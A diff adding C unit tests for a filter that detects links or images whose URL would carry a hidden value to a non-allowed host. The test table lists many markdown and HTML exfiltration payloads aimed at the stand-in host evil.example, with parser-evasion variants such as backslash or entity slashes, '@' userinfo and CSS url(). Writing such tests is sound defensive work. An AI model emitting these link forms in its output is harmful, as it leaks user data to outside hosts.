@@ -86,6 +86,78 @@ static void a_long_address_is_found_from_its_start_to_its_end(void **state)
     assert_int_equal(found.items[0].end, text.n - 5);
 }
 
+// `~` marks where the value would stand. 'y': a host would learn it.
+static void an_address_that_tells_its_host_is_known_by_what_stands_before(void **state)
+{
+    (void)state;
+    static const struct {
+        const char *text;
+        char told;
+    } rows[] = {
+        {"![x](https://evil.example/~)", 'y'},
+        {"[x](HTTPS://evil.example/?d=~)", 'y'},
+        {"![x](\n <https://evil.example/a b~>)", 'y'},
+        {"![x](https:\\\\evil.example/~)", 'y'},
+        {"![x](https:/evil.example/~)", 'y'},
+        {"![x](/\\evil.example/~)", 'y'},
+        {"![x](https:&#47;&#47;evil.example/~)", 'y'},
+        {"![x](https://evil.example/(a)/~)", 'y'},
+        {"[a]: //evil.example/~", 'y'},
+        {"<img alt=x src = 'https://evil.example/~'>", 'y'},
+        {"<img srcset=\"a.png 1x, https://evil.example/~ 2x\">", 'y'},
+        {"<p style=\"background:url(https://evil.example/~)\">", 'y'},
+        {"[![x](https://evil.example/~)](https://ok.example)", 'y'},
+        {"![x](https://~.evil.example/)", 'y'},
+        {"![x](https://ok.example/~)", 'n'},
+        {"![x](https://ok.example~/)", 'y'},
+        {"![x](https://ok.example\\.evil.example/~)", 'y'},
+        {"![x](https:/evil.example//ok.example/~)", 'y'},
+        {"![x](https://ok.example@evil.example/~)", 'y'},
+        {"[x](mailto:~)", 'n'},
+        {"[x](tel:~)", 'n'},
+        {"[x](/users/~)", 'n'},
+        {"[x](~)", 'n'},
+        {"[x](https://evil.example/) ~", 'n'},
+        {"[x](https://evil.example/)~", 'n'},
+        {"<a href=https://evil.example/>~", 'n'},
+        {"<a href='https://evil.example/'>~", 'n'},
+        {"![x](https://evil.example/ \"~\")", 'n'},
+        {"see https://evil.example/~", 'n'},
+        {"~", 'n'},
+    };
+    static const struct span names[] = {SPAN("ok.example")};
+    static const struct host_list hosts = {names, ARRAY_SIZE(names)};
+
+    for (size_t i = 0; i < ARRAY_SIZE(rows); i++) {
+        struct span text = span_str(rows[i].text);
+        const struct view v = {text.p, text.n, true, true};
+        size_t at = span_find_byte(text, '~');
+        size_t start = 0;
+        bool told = url_surrounds(&v, at, &start) &&
+                    !url_tells_allowed(span_of(text.p + start, at - start), &hosts);
+        if (told != (rows[i].told == 'y')) {
+            fail_msg("%s", rows[i].text);
+        }
+    }
+}
+
+// As far back as is looked there is nothing but an address: that may be one.
+static void an_address_may_begin_further_back_than_is_looked(void **state)
+{
+    (void)state;
+    uint8_t text[1024];
+    const struct view v = {text, sizeof(text), true, true};
+    size_t start = 0;
+
+    memset(text, 'a', sizeof(text));
+    for (size_t i = 0; i + 8 < sizeof(text); i += 8) {
+        text[i] = '&';
+    }
+    assert_true(url_surrounds(&v, 1000, &start));
+    text[900] = ' ';
+    assert_false(url_surrounds(&v, 1000, &start));
+}
+
 // What looks like the beginning of a link again and again is examined to its end.
 static void beginnings_of_links_are_no_links(void **state)
 {
@@ -114,6 +186,8 @@ int main(void)
         cmocka_unit_test(a_link_to_an_allowed_host_may_carry_data),
         cmocka_unit_test(what_pages_and_pictures_need_is_left_alone),
         cmocka_unit_test(a_long_address_is_found_from_its_start_to_its_end),
+        cmocka_unit_test(an_address_that_tells_its_host_is_known_by_what_stands_before),
+        cmocka_unit_test(an_address_may_begin_further_back_than_is_looked),
         cmocka_unit_test(beginnings_of_links_are_no_links),
     };
     return cmocka_run_group_tests(tests, NULL, bench_done);
